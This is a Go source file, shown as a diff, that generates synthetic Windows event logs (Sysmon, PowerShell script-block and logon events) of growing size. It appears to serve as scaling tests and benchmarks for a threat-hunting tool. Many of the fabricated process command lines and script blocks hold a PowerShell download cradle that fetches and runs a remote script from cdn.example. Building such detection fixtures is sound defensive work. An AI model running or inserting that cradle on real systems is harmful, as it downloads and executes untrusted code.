@@ -1,0 +1,220 @@
+// Package growth writes logs that hold n of one thing and nothing else: n files that a browser saves, n starts under one
+// process id, n hosts in one log. What hunt does with such a log must grow as n grows; tests and benchmarks hold work on n, 2n and 4n
+// against each other.
+package growth
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"time"
+
+	"hunt/evtx/evtxtest"
+)
+
+// A Kind is one way in which evidence grows.
+type Kind struct {
+	Name  string
+	About string // what there are n of
+	fill  func(*tree, int)
+}
+
+// Kinds are all kinds, in a fixed order.
+func Kinds() []Kind {
+	return []Kind{
+		{"downloads", "files that a browser saves within two minutes, none of which is run", downloads},
+		{"runs", "files that a browser saves within two minutes, each of which is run", runs},
+		{"children", "programs that one browser process starts", children},
+		{"one-pid", "programs that start under one process id and one ProcessGuid", onePID},
+		{"ancestors", "programs, each started by the one before", ancestors},
+		{"network", "connections of one program that a browser started, to as many addresses", network},
+		{"scripts", "script blocks with a download cradle, by one PowerShell process", scripts},
+		{"parts", "parts of one script block", parts},
+		{"logons", "sessions of one account on one host, with a browser's child in each", logons},
+		{"hosts", "hosts with a finding each, in one log", hosts},
+		{"channels", "channels of one host, with a finding beside them", channels},
+		{"logs", "log files of one host with a finding each", logs},
+	}
+}
+
+// Write makes the logs in dir.
+func (k Kind) Write(dir string, n int) error {
+	t := &tree{dir: dir, logs: map[string]*evtxtest.Log{}}
+	k.fill(t, n)
+	for name, l := range t.logs {
+		b, err := l.Bytes()
+		if err != nil {
+			return fmt.Errorf("%s: %w", name, err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// tree gathers the logs by file name.
+type tree struct {
+	dir  string
+	logs map[string]*evtxtest.Log
+}
+
+func (t *tree) add(file string, e evtxtest.Event) {
+	if t.logs[file] == nil {
+		t.logs[file] = &evtxtest.Log{}
+	}
+	t.logs[file].Add(e)
+}
+
+const (
+	sysmonLog     = "Microsoft-Windows-Sysmon/Operational"
+	powerShellLog = "Microsoft-Windows-PowerShell/Operational"
+	computer      = "WS-01.corp.example"
+	browser       = `C:\Program Files\Google\Chrome\Application\chrome.exe`
+	shell         = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	cradle        = `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/a.ps1')"`
+	browserNumber = 1
+)
+
+var begin = time.Date(2026, 3, 12, 9, 0, 0, 0, time.UTC)
+
+// spread is the time of event i of n within two minutes.
+func spread(i, n int) time.Time {
+	return begin.Add(time.Duration(i) * (2 * time.Minute) / time.Duration(n)).Truncate(time.Millisecond)
+}
+
+func guid(n int) evtxtest.Value {
+	return evtxtest.GUID(fmt.Sprintf("{912F8223-0000-0000-0000-%012X}", n))
+}
+
+func number(name string, n int) evtxtest.Pair {
+	return evtxtest.Pair{Name: name, Value: evtxtest.Uint32(uint32(n))} // #nosec G115 -- small
+}
+
+// sysmon adds a Sysmon event about process n.
+func (t *tree) sysmon(file, host string, id uint16, at time.Time, n int, image string, more ...evtxtest.Pair) {
+	data := append([]evtxtest.Pair{
+		evtxtest.Str("UtcTime", at.Format("2006-01-02 15:04:05.000")), {Name: "ProcessGuid", Value: guid(n)}, number("ProcessId", pid(n)),
+		evtxtest.Str("Image", image), evtxtest.Str("User", `CORP\j.doe`)}, more...)
+	t.add(file, evtxtest.Event{Provider: "Microsoft-Windows-Sysmon", Channel: sysmonLog, Computer: host, EventID: id, Version: 5, Time: at, Data: data})
+}
+
+func pid(n int) int { return 1000 + n%30000*4 }
+
+// start adds a Sysmon 1 of process n under another.
+func (t *tree) start(file, host string, at time.Time, n int, image, line string, parent int, parentImage string, logonID uint64) {
+	t.sysmon(file, host, 1, at, n, image, evtxtest.Str("CommandLine", line), evtxtest.Pair{Name: "LogonId", Value: evtxtest.Hex64(logonID)},
+		evtxtest.Pair{Name: "ParentProcessGuid", Value: guid(parent)}, number("ParentProcessId", pid(parent)),
+		evtxtest.Str("ParentImage", parentImage), evtxtest.Str("ParentCommandLine", parentImage))
+}
+
+const session = 0x7030d
+
+func (t *tree) theBrowser(file, host string) {
+	t.start(file, host, begin.Add(-time.Minute), browserNumber, browser, browser, 0, `C:\Windows\explorer.exe`, session)
+}
+
+func saved(i int) string { return fmt.Sprintf(`C:\Users\j.doe\Downloads\setup_%05d.exe`, i) }
+
+func downloads(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		t.sysmon("sysmon.evtx", computer, 11, spread(i, n), browserNumber, browser, evtxtest.Str("TargetFilename", saved(i)))
+	}
+}
+
+func runs(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		at := spread(i, n)
+		t.sysmon("sysmon.evtx", computer, 11, at, browserNumber, browser, evtxtest.Str("TargetFilename", saved(i)))
+		t.start("sysmon.evtx", computer, at.Add(time.Millisecond), 100+i, saved(i), saved(i), 0, `C:\Windows\explorer.exe`, session)
+	}
+}
+
+func children(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		t.start("sysmon.evtx", computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
+	}
+}
+
+func onePID(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		t.start("sysmon.evtx", computer, spread(i, n), 100, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
+	}
+}
+
+func ancestors(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		parent, image := 99+i, shell
+		if i == 0 {
+			parent, image = browserNumber, browser
+		}
+		t.start("sysmon.evtx", computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i), parent, image, session)
+	}
+}
+
+func network(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	for i := range n {
+		t.sysmon("sysmon.evtx", computer, 3, spread(i, n), 100, shell, evtxtest.Str("DestinationIp", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250)),
+			evtxtest.Str("DestinationPort", "443"), evtxtest.Str("Protocol", "tcp"), evtxtest.Str("Initiated", "true"))
+	}
+}
+
+// script adds a 4104.
+func (t *tree) script(at time.Time, block, part, total int, text string) {
+	t.add("powershell.evtx", evtxtest.Event{Provider: "Microsoft-Windows-PowerShell", Channel: powerShellLog, Computer: computer, EventID: 4104, Version: 1,
+		Level: 3, Time: at, ProcessID: 1400, Data: []evtxtest.Pair{number("MessageNumber", part), number("MessageTotal", total), evtxtest.Str("ScriptBlockText", text),
+			evtxtest.Str("ScriptBlockId", fmt.Sprintf("00000000-0000-0000-0000-%012d", block)), evtxtest.Str("Path", "")}})
+}
+
+func scripts(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	t.start("sysmon.evtx", computer, begin, 100, shell, "powershell", browserNumber, browser, session)
+	for i := range n {
+		t.script(spread(i, n), i, 1, 1, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
+	}
+}
+
+func parts(t *tree, n int) {
+	for i := range n {
+		t.script(spread(i, n), 1, i+1, n, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')\n", i))
+	}
+}
+
+func logons(t *tree, n int) {
+	t.theBrowser("sysmon.evtx", computer)
+	for i := range n {
+		at, id := begin.Add(time.Duration(i)*time.Minute), uint64(0x10000+i)
+		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing", Channel: "Security", Computer: computer, EventID: 4624, Version: 2, Time: at,
+			Data: []evtxtest.Pair{{Name: "TargetUserSid", Value: evtxtest.SID("S-1-5-21-1-2-3-1104")}, evtxtest.Str("TargetUserName", "j.doe"), evtxtest.Str("TargetDomainName", "CORP"),
+				{Name: "TargetLogonId", Value: evtxtest.Hex64(id)}, number("LogonType", 3), evtxtest.Str("IpAddress", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250))}})
+		t.start("sysmon.evtx", computer, at.Add(time.Second), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, id)
+	}
+}
+
+func hosts(t *tree, n int) {
+	for i := range n {
+		host := fmt.Sprintf("WS-%06d.corp.example", i)
+		t.start("forwarded.evtx", host, spread(i, n), 100, shell, cradle, browserNumber, browser, session)
+	}
+}
+
+func channels(t *tree, n int) {
+	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	for i := range n {
+		t.add("channels.evtx", evtxtest.Event{Provider: fmt.Sprintf("Vendor-%d", i), Channel: fmt.Sprintf("Vendor-%d/Operational", i), Computer: computer, EventID: 1,
+			Time: spread(i, n), Data: []evtxtest.Pair{evtxtest.Str("Text", "x")}})
+	}
+}
+
+func logs(t *tree, n int) {
+	for i := range n {
+		t.start(fmt.Sprintf("sysmon-%05d.evtx", i), computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
+	}
+}
